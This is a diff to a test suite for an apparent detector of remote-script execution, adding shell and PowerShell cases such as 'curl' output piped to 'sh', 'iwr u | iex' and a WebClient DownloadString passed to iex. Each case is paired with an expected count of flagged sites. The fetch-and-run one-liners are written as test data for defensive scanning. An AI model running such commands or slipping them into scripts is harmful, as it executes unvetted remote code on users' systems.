@@ -70,9 +70,22 @@ describe("remote scripts", () => {
     ['bash <<< "$(curl u)"', 1],
     ["eval `curl u`", 1],
     ['X="$(curl u)"', 0],
+    ['X="$(curl u)"; bash -c "$X"', 1],
+    ['X="$(curl u)"; echo "$X" | sh', 1],
+    ['X="$(curl u)"; echo "$X"; bash -c "$Y"', 0],
     ["{ curl u || wget -O- u; } | sh", 1],
     ["bash -c 'curl u | sh'", 1],
   ])("%j", async (script, count) => expect(remoteScripts(await siteOf(script))).toHaveLength(count));
+});
+
+describe("remote scripts of PowerShell", () => {
+  it.each([
+    ["iwr u | iex", 1],
+    ["$s = irm u; iex $s", 1],
+    ["$t = (iwr u).Content; Invoke-Expression $t", 1],
+    ["$s = irm u; Write-Output $s", 0],
+    ["iex ((New-Object Net.WebClient).DownloadString('https://h.example.com'))", 1],
+  ])("%j", async (script, count) => expect(remoteScripts(await siteOf(script, "pwsh"))).toHaveLength(count));
 });
 
 describe("URLs", () => {
